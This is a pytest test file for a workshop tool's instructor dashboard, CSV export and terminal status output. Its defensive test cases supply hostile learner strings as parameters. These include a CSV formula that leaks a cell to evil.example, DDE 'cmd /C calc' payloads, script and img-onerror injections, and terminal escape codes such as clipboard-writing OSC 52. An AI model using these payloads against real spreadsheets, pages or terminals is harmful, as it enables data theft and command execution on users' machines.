"""The instructor's dashboard and CSV export, built from progress events; the page checked in Chromium."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path
from typing import Any

import pytest

from labkit.workshop.report import build_report, write_report
from tests.browser import chromium

REPO = Path(__file__).resolve().parents[2]
START = dt.datetime(2026, 12, 2, 9, 0, tzinfo=dt.UTC)
LAB = "nginx-alb"


def event(
    learner: str, minute: float, kind: str, checkpoint: str | None = None, status: str | None = None
) -> dict[str, Any]:
    at = (START + dt.timedelta(minutes=minute)).isoformat()
    return {
        "learner": learner,
        "kind": kind,
        "lab": LAB,
        "checkpoint": checkpoint,
        "status": status,
        "at": at,
    }


EVENTS = [
    event("ada", 0, "open"),
    event("bob", 1, "open"),
    event("ada", 3, "check", "security-groups-chained", "failed"),
    event("ada", 4, "hint", "security-groups-chained"),
    event("ada", 6, "check", "security-groups-chained", "passed"),
    event("ada", 9, "check", "cluster-created", "passed"),
    event("bob", 12, "catch-up", "security-groups-chained"),
    event("bob", 14, "check", "cluster-created", "failed"),
]
ROSTER = [
    {"learner": "ada", "name": "Ada Lovelace"},
    {"learner": "bob", "name": "Bob"},
    {"learner": "cy", "name": "Cy"},
]


def test_the_table_folds_events_per_learner_and_checkpoint() -> None:
    """Passes, failures, hints and catch-ups land in the right cells; a learner with no events is listed."""
    report = build_report(EVENTS, ROSTER)
    assert [r.learner for r in report.rows] == ["ada", "bob", "cy"]
    assert report.checkpoints[0] == (LAB, "security-groups-chained")
    ada, bob, cy = report.rows
    first = ada.cells[(LAB, "security-groups-chained")]
    assert (first.status, first.attempts, first.hints) == ("passed", 2, 1)
    assert ada.passed() == 2
    assert bob.cells[(LAB, "security-groups-chained")].status == "caught-up"
    assert bob.cells[(LAB, "cluster-created")].status == "failed"
    assert cy.passed() == 0
    assert report.started == START


def test_the_csv_has_a_row_per_learner_and_checkpoint(tmp_path: Path) -> None:
    """The CSV export has learner, checkpoint, status, attempts and hints for every pair."""
    events_path = tmp_path / "events.jsonl"
    events_path.write_text("".join(json.dumps(e) + "\n" for e in EVENTS) + '{"torn line\n')
    roster_path = tmp_path / "roster.json"
    roster_path.write_text(json.dumps(ROSTER))
    paths = write_report(tmp_path / "out", events_path, roster_path)
    rows = list(csv.DictReader(io.StringIO(paths["csv"].read_text())))
    checkpoints = len(build_report(EVENTS, ROSTER).checkpoints)
    assert len(rows) == 3 * checkpoints
    ada_first = next(
        r for r in rows if r["learner"] == "ada" and r["checkpoint"] == "security-groups-chained"
    )
    assert ada_first == {
        "learner": "ada",
        "name": "Ada Lovelace",
        "lab": LAB,
        "checkpoint": "security-groups-chained",
        "status": "passed",
        "attempts": "2",
        "hints": "1",
        "first_passed_at": (START + dt.timedelta(minutes=6)).isoformat(),
        "last_event_at": (START + dt.timedelta(minutes=6)).isoformat(),
    }


def test_the_page_loads_nothing_from_outside() -> None:
    """The HTML has no script, no stylesheet link and no image URL: it is one self-contained file."""
    page = build_report(EVENTS, ROSTER).to_html()
    assert "<script" not in page
    assert "<link" not in page
    assert "src=" not in page


@pytest.mark.browser
def test_the_dashboard_renders_in_chromium(tmp_path: Path) -> None:
    """In headless Chromium the table and chart render, with no console error and no external request."""
    events_path = tmp_path / "events.jsonl"
    events_path.write_text("".join(json.dumps(e) + "\n" for e in EVENTS))
    roster_path = tmp_path / "roster.json"
    roster_path.write_text(json.dumps(ROSTER))
    paths = write_report(tmp_path / "out", events_path, roster_path)
    with (
        chromium(REPO / "results" / "browser") as browser,
        browser.visit(paths["html"].as_uri(), screenshot="workshop-report.png") as (page, visit),
    ):
        assert page.locator("#progress-table tbody tr").count() == 3
        assert page.locator("#progress-table td.passed").count() == 2
        assert page.locator("#progress-table td.caught-up").count() == 1
        chart = page.locator("#progress-chart")
        assert chart.is_visible()
        box = chart.bounding_box()
        assert box is not None
        assert box["width"] > 400
        assert page.locator("#progress-chart polyline.learner-line").count() == 3
        assert visit.errors == []
        assert visit.external_requests == []
    assert (REPO / "results" / "browser" / "workshop-report.png").stat().st_size > 10_000


class TestLearnersStringsAreInert:
    """A learner controls their display name, lab and checkpoint ids in events: none of it runs anywhere."""

    @pytest.mark.parametrize(
        "hostile",
        [
            '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
            "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "\uff1d1+1",
            "-1",
        ],
    )
    def test_a_formula_in_a_csv_cell_is_neutralised(self, hostile: str) -> None:
        """Every string cell that starts like a formula gets a leading `'`; labkit's own counts stay numbers."""
        events = [{**event("ada", 1, "check", hostile, "failed"), "lab": hostile}]
        roster = [{"learner": "ada", "name": hostile}]
        rows = list(csv.DictReader(io.StringIO(build_report(events, roster).to_csv(), newline="")))
        mine = next(r for r in rows if r["checkpoint"] == "'" + hostile)
        assert mine["name"] == "'" + hostile
        assert mine["lab"] == "'" + hostile
        assert mine["attempts"] == "1"
        for row in rows:
            for value in row.values():
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d")), value

    def test_a_carriage_return_cannot_start_a_row(self) -> None:
        """A lone CR in a learner's string is quoted: the CSV keeps one row per learner and checkpoint."""
        events = [event("ada", 1, "check", "cp\r=1+1,evil", "failed")]
        report = build_report(events, [{"learner": "ada", "name": "x\r@SUM(1)"}])
        rows = list(csv.DictReader(io.StringIO(report.to_csv(), newline="")))
        assert len(rows) == len(report.checkpoints)
        assert rows[0]["name"] == "x\r@SUM(1)"

    def test_ordinary_strings_are_unchanged(self) -> None:
        """A name that does not start like a formula is written as it is (a `-` inside is fine)."""
        rows = list(
            csv.DictReader(
                io.StringIO(build_report(EVENTS, [{"learner": "ada", "name": "Jean-Luc"}]).to_csv())
            )
        )
        assert {r["name"] for r in rows if r["learner"] == "ada"} == {"Jean-Luc"}

    def test_the_dashboard_escapes_a_learners_script(self) -> None:
        """A learner named `<script>alert(1)</script>`, with such lab and checkpoint ids and a forged status, stays text."""
        script = "<script>alert(1)</script>"
        attribute = '"><img src=x onerror=alert(1)>'
        events = [
            {**event("ada", 1, "check", script, "failed"), "lab": attribute},
            {**event("ada", 2, "check", "forged", "passed")},
            {**event("ada", 3, "check", "forged", '"><script>alert(2)</script>')},
        ]
        roster = [{"learner": attribute, "name": script}, {"learner": "ada", "name": script}]
        page = build_report(events, roster).to_html()
        assert "<script" not in page
        assert "<img" not in page
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
        assert 'class=""' not in page


class TestTerminalOutput:
    """What a learner wrote reaches the instructor's terminal as text, never as terminal commands."""

    @pytest.mark.parametrize(
        ("raw", "shown"),
        [
            ("\x1b]52;c;ZXZpbA==\x07", "\\x1b]52;c;ZXZpbA==\\x07"),
            ("\x1b[2J\x1b[H", "\\x1b[2J\\x1b[H"),
            ("\x9b31m", "\\x9b31m"),
            ("ok\rpassed", "ok\\x0dpassed"),
            ("a\nb", "a\\x0ab"),
            ("tab\there", "tab\\x09here"),
            ("\x00\x7f", "\\x00\\x7f"),
            ("evil\u202etxt.exe", "evil\\u202etxt.exe"),
            ("Ada Lovelace — café ✓", "Ada Lovelace — café ✓"),
        ],
    )
    def test_printable_escapes_every_control_character(self, raw: str, shown: str) -> None:
        """C0 (tab, CR, LF included), DEL, C1, ESC sequences and bidi overrides are shown, not obeyed."""
        from labkit.terminal import printable

        assert printable(raw) == shown

    def test_composed_lines_keep_their_line_feeds(self) -> None:
        """labkit's own multi-line text keeps its lines; nothing else passes."""
        from labkit.terminal import printable

        assert printable("one\ntwo\x1b[2J", keep_newlines=True) == "one\ntwo\\x1b[2J"

    def test_workshop_status_prints_no_escape_codes(self, monkeypatch: pytest.MonkeyPatch) -> None:
        """`labkit workshop status` with a learner whose id and events carry escape codes prints them inert."""
        from click.testing import CliRunner

        import labkit.workshop.server
        from labkit.cli import cli

        state = {
            "endpoint_url": "http://127.0.0.1:1",
            "pid": 1,
            "learners": [
                {
                    "learner": "ada\x1b[2J",
                    "events": 2,
                    "last_event": {
                        "kind": "check",
                        "lab": LAB,
                        "checkpoint": "cp\x1b]0;owned\x07\nFAKE LINE",
                        "status": "passed\r",
                        "at": START.isoformat(),
                    },
                }
            ],
        }
        monkeypatch.setattr(labkit.workshop.server, "workshop_status", lambda: state)
        done = CliRunner().invoke(cli, ["workshop", "status"])
        assert done.exit_code == 0, done.output
        assert "\x1b" not in done.output
        assert "\x07" not in done.output
        assert "\r" not in done.output
        assert "\\x1b[2J" in done.output
        assert len(done.output.strip().splitlines()) == 2
